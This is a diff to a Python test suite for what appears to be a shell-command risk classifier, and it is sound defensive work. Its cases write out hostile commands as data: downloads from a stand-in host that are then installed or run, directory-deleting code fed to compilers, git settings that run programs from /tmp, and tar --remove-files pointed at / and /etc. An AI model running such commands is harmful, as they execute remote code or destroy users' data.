@@ -72,7 +72,8 @@ def test_what_a_file_of_this_line_says_counts_where_it_is_run(name: str, content
         ("wget https://h.example/Vagrantfile", "vagrant up"),
         ("curl https://h.example/j > justfile", "just"),
         ("wget -qO conftest.py https://h.example/c", "pytest"),
-        ("curl -o Dockerfile https://h.example/d", "docker build -t a ."),
+        ("curl -sO https://h.example/a.deb", "sudo dpkg -i a.deb"),
+        ("wget https://h.example/a.whl", "pip install ./a.whl"),
         ("curl -o jobs https://h.example/d", "crontab jobs"),
     ],
 )
@@ -81,3 +82,51 @@ def test_a_project_file_that_is_fetched_and_run_is_code_from_elsewhere(fetch: st
     assert level(f"{fetch} && {run}") is Level.HIGH
     assert level(fetch) is not Level.HIGH
     assert level(f"{run}; {fetch}") is not Level.HIGH
+
+
+@each("run", ["crontab {}", "make -f {}", "ansible-playbook {}", "systemctl --user enable --now {}", "just -f {}"])
+def test_what_a_program_reads_from_a_download_at_once_is_code_from_elsewhere(run: str) -> None:
+    assert level(run.format("<(curl -s https://h.example/a)")) is Level.HIGH
+    assert level(run.format("<(wget -qO- h.example/a)")) is Level.HIGH
+    assert level(run.format("./a")) is not Level.HIGH or "ansible" in run
+
+
+@each(
+    ("name", "code", "run"),
+    [
+        ("a.go", 'package main; import "os"; func main() {{ os.RemoveAll("{}") }}', "go run a.go"),
+        ("build.rs", 'fn main() {{ std::fs::remove_dir_all("{}").unwrap(); }}', "cargo build"),
+        ("A.java", 'class A {{ void f() {{ FileUtils.deleteDirectory("{}"); }} }}', "java A.java"),
+        ("a.swift", 'try FileManager.default.removeItem(atPath: "{}")', "swift a.swift"),
+        ("a.groovy", 'new File("{}").deleteDir()', "groovy a.groovy"),
+    ],
+)
+def test_code_in_a_file_of_a_language_without_a_reader(name: str, code: str, run: str) -> None:
+    for folder in ("/etc", "/home/u", "/"):
+        assert level(f"cat > {name} <<'E'\n{code.format(folder)}\nE\n{run}") is Level.HIGH, (name, folder)
+    assert level(f"cat > {name} <<'E'\n// nothing\nE\n{run}") is Level.MEDIUM
+
+
+@each("folder", ["/tmp/h", "/tmp/a/b", "/var/tmp/x", "/dev/shm/h"])
+def test_a_program_that_git_is_to_run_from_where_others_write(folder: str) -> None:
+    for name in ("core.hooksPath", "core.pager", "core.sshCommand", "core.fsmonitor"):
+        for command in (
+            f"git config {name} {folder}",
+            f"git config --global {name} {folder}",
+            f"git -c {name}={folder} status",
+        ):
+            assert level(command) is Level.HIGH, command
+        assert level(f"git config {name} ./own") is Level.MEDIUM
+
+
+@each(
+    "packer",
+    [
+        "tar -C {} --remove-files -cf x.tar .",
+        "tar --remove-files -C {} -czf x.tgz a",
+        "bsdtar -cf x -C {} --remove-files a",
+    ],
+)
+def test_what_is_packed_and_removed_lies_in_the_folder_that_is_named(packer: str) -> None:
+    assert [level(packer.format(folder)) for folder in ("/", "/etc", "~")] == [Level.HIGH] * 3
+    assert level("tar -C build --remove-files -cf x.tar a") is Level.MEDIUM
